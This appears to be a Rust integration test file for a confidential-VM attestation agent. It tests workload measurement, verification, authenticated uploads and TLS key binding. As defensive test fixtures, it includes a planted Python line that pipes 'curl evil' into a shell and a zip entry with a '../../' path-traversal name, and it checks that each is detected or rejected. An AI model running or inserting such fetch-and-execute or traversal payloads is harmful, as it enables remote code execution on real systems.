//! The agent against real components: a swtpm, a container engine (dockerd with its registry, and
//! Podman), docker-compose, and its HTTP API over real sockets.

use cvm_agent::config::Config;
use cvm_agent::{Agent, StartKind};
use cvm_attestation::evidence::{Cloud, Platform, Tee};
use cvm_attestation::golden::{AllowedWorkload, GoldenMeasurement, GoldenWorkload};
use cvm_attestation::workload::{
    archived_images, EventKind, TokenCommitment, WorkloadEvent, WorkloadFolder, WorkloadLog,
};
use cvm_attestation::{encoding::encode_base64, Sha256Digest};
use cvm_attester::NoTee;
use serde_json::json;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;
use test_support::http::{get_json, multipart_file, post_json, request};
use test_support::{busybox_image_archive, ContainerEngine, EngineKind, Swtpm};

const TOKEN: &str = "test-token-0123456789abcdef0123456789abcdef";
const IMAGE: &str = "localhost/cvm-example/hello:1";

/// A VM stand-in: its TPM, its engine, its data partition, and the agent.
struct TestVm {
    swtpm: Swtpm,
    engine: ContainerEngine,
    dir: tempfile::TempDir,
    agent: Option<Agent>,
}

/// The example workload's service with its answer written to the log instead of served on a
/// published port (engines of parallel tests share the host's ports); `run-local.sh` runs the
/// example itself in the production image.
const COMPOSE: &str = r#"services:
  hello:
    image: localhost/cvm-example/hello:1
    command:
      - sh
      - -c
      - |
        cat /config/message.txt
        test -S /run/cvm-agent/api/api.sock && echo "agent API socket: reachable"
        while true; do sleep 3600; done
    env_file: app.env
    volumes:
      - ./config:/config:ro
      - ./secrets:/secrets:ro
      - ${CVM_AGENT_SOCKET_DIR:-/run/cvm-agent/api}:/run/cvm-agent/api:ro
    restart: unless-stopped
"#;

/// The example workload plus its image archive, with an optional message.
fn write_workload(dir: &Path, message: &str) {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../workload");
    std::fs::create_dir_all(dir.join("config")).unwrap();
    std::fs::create_dir_all(dir.join("secrets")).unwrap();
    for file in ["app.env", "secrets/README.md"] {
        std::fs::copy(source.join(file), dir.join(file)).unwrap();
    }
    std::fs::write(dir.join("docker-compose.yml"), COMPOSE).unwrap();
    std::fs::write(dir.join("config/message.txt"), message).unwrap();
    let archive = busybox_image_archive(IMAGE, &["sh"], &[]).unwrap();
    std::fs::write(dir.join("hello.tar"), archive.bytes).unwrap();
}

/// What PCR 23 must hold, computed offline from the folder, the token and the salt the agent
/// published in its api-token event.
fn offline_events(dir: &Path, salt: [u8; 32]) -> Vec<WorkloadEvent> {
    let archive = std::fs::File::open(dir.join("hello.tar")).unwrap();
    let ids: BTreeMap<String, String> = archived_images(archive)
        .unwrap()
        .into_iter()
        .flat_map(|image| {
            image
                .tags
                .into_iter()
                .map(move |tag| (tag, image.image_id.clone()))
        })
        .collect();
    WorkloadFolder::read(dir)
        .unwrap()
        .events(&ids, Some(&TokenCommitment::new(salt, TOKEN)))
        .unwrap()
}

/// The salt of the agent's api-token events (one per boot, public in its log).
async fn token_salt(agent: &Agent) -> [u8; 32] {
    let log = agent.state.workloads.measured().await.log;
    TokenCommitment::first_salt(&log.events).expect("a salted api-token event")
}

impl TestVm {
    async fn boot(kind: EngineKind, message: &str) -> TestVm {
        let swtpm = Swtpm::start().unwrap();
        let engine = ContainerEngine::start(kind).unwrap();
        let dir = tempfile::tempdir().unwrap();
        write_workload(&dir.path().join("workload"), message);
        std::fs::write(dir.path().join("token"), TOKEN).unwrap();
        let mut vm = TestVm {
            swtpm,
            engine,
            dir,
            agent: None,
        };
        vm.start_agent().await;
        vm
    }

    fn config(&self) -> Config {
        Config {
            workload_dir: self.dir.path().join("workload"),
            state_dir: self.dir.path().join("run"),
            local_listen: "127.0.0.1:0".parse().unwrap(),
            external_listen: "127.0.0.1:0".parse().unwrap(),
            // These tests speak plain HTTP; the TLS listener has its own test.
            external_tls: false,
            local_socket: Some(self.dir.path().join("run/api/api.sock")),
            tcti: self.swtpm.tcti(),
            engine_socket: self.engine.socket().to_owned(),
            api_token_file: Some(self.dir.path().join("token")),
            firmware_event_log: None,
            max_upload_bytes: 4 << 20,
            // Every client here shares one address (64 of them in the load test); the
            // per-client limit has its own test in resilience.rs.
            client_evidence_per_sec: 1_000_000,
            client_evidence_burst: 1_000_000,
            ..Config::default()
        }
    }

    async fn start_agent(&mut self) -> StartKind {
        let platform = Platform {
            cloud: Cloud::Qemu,
            tee: Tee::None,
        };
        let agent = Agent::start_with(self.config(), platform, Box::new(NoTee))
            .await
            .unwrap_or_else(|e| {
                panic!(
                    "agent start: {e:#}\nengine log:\n{}",
                    self.engine.log_tail()
                )
            });
        let kind = agent.start_kind;
        self.agent = Some(agent);
        kind
    }

    fn agent(&self) -> &Agent {
        self.agent.as_ref().unwrap()
    }

    fn workload_dir(&self) -> PathBuf {
        self.dir.path().join("workload")
    }

    async fn pcr23(&self) -> [u8; 32] {
        self.agent().state.tpm.read_pcr23().await.unwrap()
    }

    /// The folder's events as the agent must have measured them (same token, same salt).
    async fn offline_events(&self, dir: &Path) -> Vec<WorkloadEvent> {
        offline_events(dir, token_salt(self.agent()).await)
    }

    /// Fetches evidence over a fresh nonce and verifies it through the agent's /offchain-verify
    /// against `events` (the same workload measured again after boot is accepted).
    async fn verify_against(&self, events: Vec<WorkloadEvent>) -> serde_json::Value {
        let golden = GoldenWorkload {
            allow_updates: true,
            ..GoldenWorkload::new(events)
        };
        offchain_verify(self.agent(), golden).await
    }
}

/// Fetches evidence from `agent` over a fresh nonce and verifies it through its
/// /offchain-verify against `workload` (the predecessor's JSON-string form for the evidence).
async fn offchain_verify(agent: &Agent, workload: GoldenWorkload) -> serde_json::Value {
    let nonce = hex::encode(rand_nonce());
    let (status, evidence) = get_json(agent.external_addr, &format!("/collaterals/{nonce}"))
        .await
        .unwrap();
    assert_eq!(status, 200, "{evidence}");
    let parsed = cvm_attestation::Evidence::from_json(evidence.to_string().as_bytes()).unwrap();
    let golden = golden_for(&parsed, &workload);
    let body = json!({
        "collaterals": evidence.to_string(),
        "golden_measurement": golden,
        "nonce": nonce,
        "trusted_ak": encode_base64(agent.state.tpm.ak_public()),
    });
    let response = post_json(agent.local_addr, "/offchain-verify", &body)
        .await
        .unwrap();
    assert_eq!(response.status, 200, "{}", response.text());
    response.json().unwrap()
}

/// A golden document for `workload` that also pins the boot chain, as verification requires:
/// PCR 4 and 11 as this VM stand-in's own swtpm quotes them (nothing boots on it). The workload
/// is what these tests are about.
fn golden_for(
    evidence: &cvm_attestation::Evidence,
    workload: &GoldenWorkload,
) -> serde_json::Value {
    let pcr = |index: u8| {
        let value = evidence.tpm.pcrs.pcrs.get(&index).expect("quoted PCR");
        json!({"sha256": hex::encode(value.as_slice()), "source": "observed"})
    };
    json!({"version": 1, "pcrs": {"4": pcr(4), "11": pcr(11)}, "workload": workload})
}

/// The named check of an /offchain-verify answer, as (status, reason).
fn check<'a>(answer: &'a serde_json::Value, name: &str) -> (&'a str, &'a str) {
    let checks = answer["report"]["checks"].as_array().expect("a report");
    let check = checks
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no check {name}: {answer:#}"));
    (
        check["status"].as_str().unwrap_or_default(),
        check["reason"].as_str().unwrap_or_default(),
    )
}

impl TestVm {
    async fn container_log(&self) -> String {
        let response = request(
            self.agent().external_addr,
            "GET",
            "/container-logs?name=hello",
            &[("Authorization", &format!("Bearer {TOKEN}"))],
            b"",
        )
        .await
        .unwrap();
        assert_eq!(response.status, 200, "{}", response.text());
        response.json().unwrap()[0]["log"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    }

    async fn upload(&self, token: &str, archive: &[u8]) -> test_support::http::HttpResponse {
        let (content_type, body) = multipart_file("file", "workload.zip", archive);
        request(
            self.agent().external_addr,
            "POST",
            "/update-workload",
            &[
                ("Authorization", &format!("Bearer {token}")),
                ("Content-Type", &content_type),
            ],
            &body,
        )
        .await
        .unwrap()
    }
}

fn rand_nonce() -> [u8; 16] {
    let mut nonce = [0u8; 16];
    openssl::rand::rand_bytes(&mut nonce).unwrap();
    nonce
}

/// Waits until the service's log contains `text` (the container starts asynchronously).
async fn wait_for_log(vm: &TestVm, text: &str) -> String {
    let mut log = String::new();
    for _ in 0..100 {
        log = vm.container_log().await;
        if log.contains(text) {
            return log;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    panic!(
        "container log never contained {text:?}: {log:?}\nengine:\n{}",
        vm.engine.log_tail()
    );
}

fn zip_folder(dir: &Path) -> Vec<u8> {
    use std::io::Write;
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut stack = vec![dir.to_owned()];
    while let Some(current) = stack.pop() {
        for entry in std::fs::read_dir(&current).unwrap() {
            let path = entry.unwrap().path();
            let name = path
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if path.is_dir() {
                stack.push(path);
            } else {
                writer
                    .start_file(name, zip::write::SimpleFileOptions::default())
                    .unwrap();
                writer.write_all(&std::fs::read(&path).unwrap()).unwrap();
            }
        }
    }
    writer.finish().unwrap().into_inner()
}

async fn measures_runs_and_attests(kind: EngineKind) {
    let vm = TestVm::boot(kind, "first message\n").await;
    let expected = vm.offline_events(&vm.workload_dir()).await;
    assert_eq!(
        hex::encode(vm.pcr23().await),
        cvm_attestation::workload::replay(&expected).to_hex()
    );

    let answer = vm.verify_against(expected.clone()).await;
    assert_eq!(answer["success"], true, "{answer:#}");
    wait_for_log(&vm, "first message").await;
    // The container sees the agent's local API socket (mounted from CVM_AGENT_SOCKET_DIR).
    wait_for_log(&vm, "agent API socket: reachable").await;

    // A changed config file: another PCR 23, and the golden comparison fails by name.
    let other = tempfile::tempdir().unwrap();
    write_workload(other.path(), "another message\n");
    let changed = vm.offline_events(other.path()).await;
    assert_ne!(
        cvm_attestation::workload::replay(&changed),
        cvm_attestation::workload::replay(&expected)
    );
    let answer = vm.verify_against(changed).await;
    assert_eq!(answer["success"], false);
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .contains("workload.measurement"),
        "{answer:#}"
    );

    let (status, platform) = get_json(vm.agent().local_addr, "/platform").await.unwrap();
    assert_eq!((status, platform["tee_type"].as_str()), (200, Some("none")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_agent_measures_runs_and_attests() {
    measures_runs_and_attests(EngineKind::Docker).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn podman_agent_measures_runs_and_attests() {
    measures_runs_and_attests(EngineKind::Podman).await;
}

/// An image with no workload: the agent measures an empty generation (the token's commitment),
/// serves, refuses a compose file that appears unmeasured, and takes its first workload by upload.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_without_a_workload_serves_and_takes_the_first_upload() {
    let swtpm = Swtpm::start().unwrap();
    let engine = ContainerEngine::start(EngineKind::Podman).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("token"), TOKEN).unwrap();
    let mut vm = TestVm {
        swtpm,
        engine,
        dir,
        agent: None,
    };
    assert_eq!(vm.start_agent().await, StartKind::Measured);
    let salt = token_salt(vm.agent()).await;
    let empty = vec![
        TokenCommitment::new(salt, TOKEN).event(),
        WorkloadEvent::separator(),
    ];
    assert_eq!(
        hex::encode(vm.pcr23().await),
        cvm_attestation::workload::replay(&empty).to_hex()
    );
    let (status, health) = get_json(vm.agent().local_addr, "/health").await.unwrap();
    assert_eq!((status, &health["workload"]), (200, &json!([])), "{health}");
    let answer = vm.verify_against(empty.clone()).await;
    assert_eq!(answer["success"], true, "{answer:#}");

    // A compose file written behind the agent's back is not run after a restart.
    write_workload(&vm.workload_dir(), "never measured\n");
    vm.agent = None;
    assert_eq!(vm.start_agent().await, StartKind::Restored);
    let refused = vm.agent().state.workloads.refused().await.expect("refused");
    assert!(refused.contains("appeared"), "{refused}");
    std::fs::remove_dir_all(vm.workload_dir()).unwrap();
    std::fs::create_dir(vm.workload_dir()).unwrap();

    let first = tempfile::tempdir().unwrap();
    write_workload(first.path(), "first upload\n");
    let response = vm.upload(TOKEN, &zip_folder(first.path())).await;
    assert_eq!(response.status, 200, "{}", response.text());
    wait_for_log(&vm, "first upload").await;
    let expected = vm.offline_events(first.path()).await;
    let answer = vm.verify_against(expected).await;
    assert_eq!(answer["success"], true, "{answer:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn updates_are_measured_and_bad_uploads_leave_the_workload_running() {
    let vm = TestVm::boot(EngineKind::Docker, "before update\n").await;
    wait_for_log(&vm, "before update").await;

    // Rejected: wrong token, traversal, corrupt zip, oversize. The old workload keeps running.
    let new_dir = tempfile::tempdir().unwrap();
    write_workload(new_dir.path(), "after update\n");
    let good = zip_folder(new_dir.path());
    let wrong = vm
        .upload("not-the-token-at-all-000000000000000", &good)
        .await;
    assert_eq!(wrong.status, 401, "{}", wrong.text());

    let traversal = {
        use std::io::Write;
        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        writer
            .start_file("../../escape.txt", zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(b"x").unwrap();
        writer.finish().unwrap().into_inner()
    };
    let response = vm.upload(TOKEN, &traversal).await;
    assert_eq!(response.status, 400, "{}", response.text());
    assert!(
        response.json().unwrap()["error"]
            .as_str()
            .unwrap()
            .contains("outside"),
        "{}",
        response.text()
    );
    let response = vm.upload(TOKEN, b"PK\x03\x04 this is not a zip").await;
    assert_eq!(response.status, 400, "{}", response.text());
    let oversize = vec![0u8; 5 << 20];
    let response = request(
        vm.agent().external_addr,
        "POST",
        "/update-workload",
        &[
            ("Authorization", &format!("Bearer {TOKEN}")),
            ("Content-Type", "application/zip"),
        ],
        &oversize,
    )
    .await
    .unwrap();
    assert_eq!(response.status, 413, "{}", response.text());
    let no_compose = {
        use std::io::Write;
        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        writer
            .start_file("config/a.txt", zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(b"x").unwrap();
        writer.finish().unwrap().into_inner()
    };
    let response = vm.upload(TOKEN, &no_compose).await;
    assert_eq!(response.status, 422, "{}", response.text());
    assert!(
        response.text().contains("docker-compose.yml"),
        "{}",
        response.text()
    );
    let pcr_before = vm.pcr23().await;
    wait_for_log(&vm, "before update").await;

    // Accepted: re-measured (a second generation), restarted with the new config.
    let response = vm.upload(TOKEN, &good).await;
    assert_eq!(response.status, 200, "{}", response.text());
    assert_ne!(vm.pcr23().await, pcr_before);
    wait_for_log(&vm, "after update").await;
    let (_, log) = get_json(vm.agent().external_addr, "/eventlog")
        .await
        .unwrap();
    let log: WorkloadLog = serde_json::from_value(log).unwrap();
    let generations = log.generations().unwrap();
    assert_eq!(generations.len(), 2);
    assert_eq!(log.replay().0, vm.pcr23().await);
    // The old form (`allow_updates`) accepts only the same workload again: the first
    // generation must be allowed by name now.
    let new_events = vm.offline_events(new_dir.path()).await;
    let answer = vm.verify_against(new_events.clone()).await;
    assert_eq!(answer["success"], false, "{answer:#}");
    assert!(check(&answer, "workload.updates")
        .1
        .contains("generation 1 of 2"));
    let golden = GoldenWorkload {
        allowed: vec![AllowedWorkload::Events(generations[0].to_vec())],
        ..GoldenWorkload::new(new_events)
    };
    let answer = offchain_verify(vm.agent(), golden).await;
    assert_eq!(answer["success"], true, "{answer:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restarting_the_agent_does_not_extend_again() {
    let mut vm = TestVm::boot(EngineKind::Docker, "restart\n").await;
    let before = vm.pcr23().await;
    drop(vm.agent.take());
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(vm.start_agent().await, StartKind::Restored);
    assert_eq!(vm.pcr23().await, before);
    let (_, log) = get_json(vm.agent().local_addr, "/eventlog").await.unwrap();
    let log: WorkloadLog = serde_json::from_value(log).unwrap();
    assert_eq!(log.replay().0, before);
    let answer = vm
        .verify_against(vm.offline_events(&vm.workload_dir()).await)
        .await;
    assert_eq!(answer["success"], true, "{answer:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_clients_are_served_without_errors() {
    let vm = TestVm::boot(EngineKind::Docker, "load\n").await;
    let addr = vm.agent().external_addr;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let mut clients = Vec::new();
    for _ in 0..64 {
        clients.push(tokio::spawn(async move {
            let mut served = 0u32;
            while tokio::time::Instant::now() < deadline {
                let nonce = hex::encode(rand_nonce());
                let response = request(addr, "GET", &format!("/collaterals/{nonce}"), &[], b"")
                    .await
                    .unwrap();
                assert_eq!(response.status, 200, "{}", response.text());
                served += 1;
            }
            served
        }));
    }
    let mut total = 0;
    for client in clients {
        total += client.await.unwrap();
    }
    assert!(
        total >= 64,
        "every client was served at least once ({total} in all)"
    );
    println!("served {total} evidence requests in 30 s with 64 clients");
}

#[tokio::test]
async fn bad_nonces_and_unknown_routes_are_json_errors() {
    let vm = TestVm::boot(EngineKind::Docker, "errors\n").await;
    let addr = vm.agent().external_addr;
    for path in [
        "/collaterals/abc",
        &format!("/collaterals/{}", "a".repeat(300)),
        "/collaterals/!!!!",
    ] {
        let response = request(addr, "GET", path, &[], b"").await.unwrap();
        assert_eq!(response.status, 400, "{path}");
        assert!(response.json().unwrap()["error"].is_string());
    }
    let response = request(addr, "GET", "/no/such/route", &[], b"")
        .await
        .unwrap();
    assert_eq!(response.status, 404);
    // The verify route is local only.
    let response = post_json(addr, "/offchain-verify", &json!({}))
        .await
        .unwrap();
    assert_eq!(response.status, 404);
    let response = post_json(
        vm.agent().local_addr,
        "/offchain-verify",
        &json!({"collaterals": 1}),
    )
    .await
    .unwrap();
    assert_eq!(response.status, 400, "{}", response.text());
}

#[test]
fn openapi_document_lists_exactly_the_routes() {
    let document: serde_json::Value = serde_json::from_slice(
        &std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("openapi.json")).unwrap(),
    )
    .unwrap();
    let mut documented: Vec<(String, String)> = document["paths"]
        .as_object()
        .unwrap()
        .iter()
        .flat_map(|(path, methods)| {
            methods
                .as_object()
                .unwrap()
                .keys()
                .map(move |m| (m.clone(), path.clone()))
        })
        .collect();
    documented.sort();
    let mut served: Vec<(String, String)> = cvm_agent::api::ROUTES
        .iter()
        .map(|(m, p, _)| (m.to_string(), p.to_string()))
        .collect();
    served.sort();
    assert_eq!(documented, served);
}

/// A measure-only agent (no engine) on ephemeral loopback ports, its files under `dir`.
fn measure_only_config(dir: &Path, swtpm: &Swtpm) -> Config {
    Config {
        workload_dir: dir.join("workload"),
        state_dir: dir.join("run"),
        local_listen: "127.0.0.1:0".parse().unwrap(),
        external_listen: "127.0.0.1:0".parse().unwrap(),
        external_tls: false,
        local_socket: None,
        tcti: swtpm.tcti(),
        api_token_file: Some(dir.join("token")),
        firmware_event_log: None,
        measure_only: true,
        ..Config::default()
    }
}

/// A measure-only agent without a TEE on its own swtpm (fields drop in order: the agent first).
struct MeasureOnly {
    agent: Agent,
    dir: tempfile::TempDir,
    _swtpm: Swtpm,
}

impl MeasureOnly {
    /// With `message` as the workload's config file; `adjust` changes the configuration.
    async fn start(message: &str, adjust: impl FnOnce(Config) -> Config) -> Self {
        let swtpm = Swtpm::start().unwrap();
        let dir = tempfile::tempdir().unwrap();
        write_workload(&dir.path().join("workload"), message);
        std::fs::write(dir.path().join("token"), TOKEN).unwrap();
        let config = adjust(measure_only_config(dir.path(), &swtpm));
        let platform = Platform {
            cloud: Cloud::Qemu,
            tee: Tee::None,
        };
        let agent = Agent::start_with(config, platform, Box::new(NoTee))
            .await
            .unwrap();
        Self {
            agent,
            dir,
            _swtpm: swtpm,
        }
    }
}

#[tokio::test]
async fn measure_only_agent_needs_no_engine() {
    let vm = MeasureOnly::start("measured only\n", |config| Config {
        engine_socket: "/nonexistent/engine.sock".into(),
        ..config
    })
    .await;
    let (agent, dir) = (&vm.agent, &vm.dir);
    let expected = offline_events(&dir.path().join("workload"), token_salt(agent).await);
    let pcr = agent.state.tpm.read_pcr23().await.unwrap();
    assert_eq!(
        hex::encode(pcr),
        cvm_attestation::workload::replay(&expected).to_hex()
    );
    let (status, health) = get_json(agent.external_addr, "/health").await.unwrap();
    assert_eq!(status, 200);
    assert!(
        health["workload"]
            .as_str()
            .unwrap()
            .contains("measure-only"),
        "{health}"
    );
    let response = request(
        agent.external_addr,
        "GET",
        "/container-logs",
        &[("Authorization", &format!("Bearer {TOKEN}"))],
        b"",
    )
    .await
    .unwrap();
    assert_eq!(response.status, 409, "{}", response.text());
}

/// GCP/AWS-style SEV-SNP through the agent: evidence verifies through /offchain-verify only
/// because the agent's configuration names the TEST-ONLY root, and the report says so.
#[tokio::test]
async fn snp_evidence_verifies_through_offchain_verify_with_a_named_test_root() {
    let swtpm = Swtpm::start().unwrap();
    let dir = tempfile::tempdir().unwrap();
    write_workload(&dir.path().join("workload"), "snp\n");
    std::fs::write(dir.path().join("token"), TOKEN).unwrap();
    let signer = test_support::SnpTestSigner::new().unwrap();
    std::fs::write(dir.path().join("test-ark.pem"), signer.ark_pem()).unwrap();
    let measurement = [0x5a; 48];
    let config = Config {
        test_roots: vec![dir.path().join("test-ark.pem")],
        ..measure_only_config(dir.path(), &swtpm)
    };
    // A local SEV-SNP host: the AK is pinned by whoever created the TPM (GCP and AWS have their
    // own trust bases, tested in attester/tests/full_path.rs).
    let platform = Platform {
        cloud: Cloud::Qemu,
        tee: Tee::SevSnp,
    };
    let backend = test_support::TestSnpBackend {
        signer,
        measurement,
        policy: 0x3_0000,
    };
    let agent = Agent::start_with(config, platform, Box::new(backend))
        .await
        .unwrap();

    let nonce = hex::encode(rand_nonce());
    let (status, evidence) = get_json(agent.external_addr, &format!("/collaterals/{nonce}"))
        .await
        .unwrap();
    assert_eq!(status, 200, "{evidence}");
    // Direct boot: the launch digest pins the boot chain.
    let golden = json!({
        "version": 1,
        "platform": {"cloud": "qemu", "tee": "sev-snp"},
        "workload": {"events": offline_events(&dir.path().join("workload"), token_salt(&agent).await)},
        "snp": {"measurements": [hex::encode(measurement)]},
    });
    // The AK deploy-local records when it creates the VM's TPM.
    let trusted_ak = evidence["tpm"]["ak_pub"].clone();
    let body = json!({
        "collaterals": evidence, "golden_measurement": golden, "nonce": nonce, "trusted_ak": trusted_ak,
    });
    let response = post_json(agent.local_addr, "/offchain/verify", &body)
        .await
        .unwrap();
    let answer = response.json().unwrap();
    assert_eq!(answer["success"], true, "{answer:#}");
    let checks = answer["report"]["checks"].as_array().unwrap();
    let chain = checks.iter().find(|c| c["name"] == "snp.chain").unwrap();
    assert!(
        chain["reason"].as_str().unwrap().contains("TEST-ONLY root"),
        "{chain}"
    );
}

/// The external listener speaks TLS 1.3 with a key made at start, and the evidence fetched over
/// that connection binds exactly that key (what `cvm-cli` pins before sending its token).
#[tokio::test]
async fn the_external_tls_key_is_bound_into_evidence() {
    let vm = MeasureOnly::start("over tls\n", |config| Config {
        external_tls: true,
        ..config
    })
    .await;
    let (agent, dir) = (&vm.agent, &vm.dir);
    let addr = agent.external_addr;
    let nonce = rand_nonce();
    let path = format!("/collaterals/{}", hex::encode(nonce));
    let (peer_key, body) = tokio::task::spawn_blocking(move || tls_get(addr, &path))
        .await
        .unwrap();
    let evidence = cvm_attestation::Evidence::from_json(&body).unwrap();
    assert_eq!(evidence.tls_key(), Some(peer_key));
    assert_eq!(agent.state.tls_key, Some(peer_key));

    let workload = GoldenWorkload::new(offline_events(
        &dir.path().join("workload"),
        token_salt(agent).await,
    ));
    let golden: GoldenMeasurement =
        serde_json::from_value(golden_for(&evidence, &workload)).unwrap();
    let mut options = cvm_attestation::VerifyOptions::now().with_nonce(nonce.to_vec());
    options.trusted_ak = Some(evidence.tpm.ak_pub.as_slice().to_vec());
    options.expected_tls_key = Some(peer_key);
    let report = cvm_attestation::verify(&evidence, &golden, &options);
    assert!(report.verified, "{report}");
    options.expected_tls_key = Some([0; 32]);
    let report = cvm_attestation::verify(&evidence, &golden, &options);
    assert!(!report.verified, "{report}");

    // Plain HTTP on the TLS port gets nothing.
    let response = request(addr, "GET", "/health", &[], b"").await;
    assert!(
        response.as_ref().map_or(true, |r| r.status != 200),
        "{response:?}"
    );
}

/// One HTTP/1.0 GET over TLS (certificate not checked: the evidence vouches for the key); the
/// SHA-256 of the server's SPKI and the response body.
fn tls_get(addr: std::net::SocketAddr, path: &str) -> ([u8; 32], Vec<u8>) {
    use sha2::Digest;
    use std::io::{Read, Write};
    let mut connector =
        openssl::ssl::SslConnector::builder(openssl::ssl::SslMethod::tls()).unwrap();
    connector.set_verify(openssl::ssl::SslVerifyMode::NONE);
    let tcp = std::net::TcpStream::connect(addr).unwrap();
    let mut stream = connector
        .build()
        .configure()
        .unwrap()
        .connect("cvm-agent", tcp)
        .unwrap();
    assert_eq!(stream.ssl().version_str(), "TLSv1.3");
    let spki = stream
        .ssl()
        .peer_certificate()
        .unwrap()
        .public_key()
        .unwrap()
        .public_key_to_der()
        .unwrap();
    stream
        .write_all(format!("GET {path} HTTP/1.0\r\nHost: agent\r\n\r\n").as_bytes())
        .unwrap();
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response);
    let at = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
    assert!(response.starts_with(b"HTTP/1.0 200") || response.starts_with(b"HTTP/1.1 200"));
    (sha2::Sha256::digest(&spki).into(), response[at..].to_vec())
}

/// Random hex, so every run measures data no earlier run saw.
fn fresh(label: &str) -> String {
    format!("{label} {}\n", hex::encode(rand_nonce()))
}

/// `POST /update-workload` with the token and a zip of `dir`.
async fn upload_folder(agent: &Agent, dir: &Path) -> test_support::http::HttpResponse {
    let (content_type, body) = multipart_file("file", "workload.zip", &zip_folder(dir));
    request(
        agent.external_addr,
        "POST",
        "/update-workload",
        &[
            ("Authorization", &format!("Bearer {TOKEN}")),
            ("Content-Type", &content_type),
        ],
        &body,
    )
    .await
    .unwrap()
}

/// Copies a workload folder (regular files and directories only).
fn copy_folder(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        if entry.file_type().unwrap().is_dir() {
            copy_folder(&entry.path(), &to.join(entry.file_name()));
        } else {
            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
        }
    }
}

/// Attack: upload something evil, then the golden workload again. The running workload is the
/// golden one, but the golden allows neither the evil generation nor (in the old form) updates
/// to another workload: `workload.updates` fails and names the generation.
#[tokio::test]
async fn an_evil_generation_between_golden_ones_fails_by_index() {
    let golden_message = fresh("golden");
    let vm = MeasureOnly::start(&golden_message, |config| config).await;
    let agent = &vm.agent;
    let workload = vm.dir.path().join("workload");
    let golden_copy = vm.dir.path().join("golden-copy");
    copy_folder(&workload, &golden_copy);
    let golden_events = offline_events(&workload, token_salt(agent).await);
    let evil = vm.dir.path().join("evil");
    copy_folder(&workload, &evil);
    std::fs::write(evil.join("config/message.txt"), fresh("evil")).unwrap();

    for dir in [&evil, &golden_copy] {
        let response = upload_folder(agent, dir).await;
        assert_eq!(response.status, 200, "{}", response.text());
    }
    let log = agent.state.workloads.measured().await.log;
    assert_eq!(log.generations().unwrap().len(), 3);

    // The old document form: `allow_updates: true` means the golden's own events, every time.
    let old = GoldenWorkload {
        allow_updates: true,
        ..GoldenWorkload::new(golden_events.clone())
    };
    let answer = offchain_verify(agent, old).await;
    assert_eq!(
        check(&answer, "workload.measurement").0,
        "pass",
        "{answer:#}"
    );
    let (status, reason) = check(&answer, "workload.updates");
    assert_eq!(status, "fail", "{answer:#}");
    assert!(reason.contains("generation 2 of 3"), "{reason}");
    assert!(
        reason.contains("config-file \"config/message.txt\" changed"),
        "{reason}"
    );
    assert!(!reason.contains("generation 1 of 3"), "{reason}");
    // Without updates allowed at all.
    let answer = offchain_verify(agent, GoldenWorkload::new(golden_events.clone())).await;
    let (status, reason) = check(&answer, "workload.updates");
    assert_eq!(status, "fail");
    assert!(reason.contains("does not allow updates"), "{reason}");
    // Naming the evil measurement explicitly is the only way to accept it.
    let evil_events = offline_events(&evil, token_salt(agent).await);
    let named = GoldenWorkload {
        allowed: vec![AllowedWorkload::Digest(cvm_attestation::workload::replay(
            &evil_events,
        ))],
        ..GoldenWorkload::new(golden_events)
    };
    let answer = offchain_verify(agent, named).await;
    assert_eq!(check(&answer, "workload.updates").0, "pass", "{answer:#}");
    // An explicit opt-out is reported as such, never as a pass.
    let answer = offchain_verify(agent, GoldenWorkload::any()).await;
    assert_eq!(
        check(&answer, "workload"),
        (
            "skip",
            "the golden accepts any workload (\"workload\": \"any\"): PCR 23 is not interpreted"
        )
    );
}

/// Attack: code handed to a container by a bind mount (`./app.py:/app/app.py`). It is measured
/// as a `file` event, so a golden computed from the honest folder fails by name.
#[tokio::test]
async fn bind_mounted_code_is_measured_and_named() {
    let code = fresh("print('honest')  #");
    let compose = "services:\n  app:\n    image: localhost/cvm-example/hello:1\n    volumes:\n      - ./app.py:/app/app.py:ro\n";
    let evil = format!("{code}import os; os.system('curl evil | sh')\n");
    let vm = MeasureOnly::start("bind\n", |config| {
        std::fs::write(config.workload_dir.join("docker-compose.yml"), compose).unwrap();
        std::fs::write(config.workload_dir.join("app.py"), &evil).unwrap();
        config
    })
    .await;
    let honest = vm.dir.path().join("honest");
    copy_folder(&vm.dir.path().join("workload"), &honest);
    std::fs::write(honest.join("app.py"), &code).unwrap();
    let golden = GoldenWorkload::new(offline_events(&honest, token_salt(&vm.agent).await));
    let answer = offchain_verify(&vm.agent, golden).await;
    let (status, reason) = check(&answer, "workload.measurement");
    assert_eq!(status, "fail", "{answer:#}");
    assert!(reason.contains("file \"app.py\" changed"), "{reason}");
}

/// The token's commitment: two boots with the same token publish different salts and digests,
/// and whoever knows the token recomputes each from its salt; the bare hash never appears.
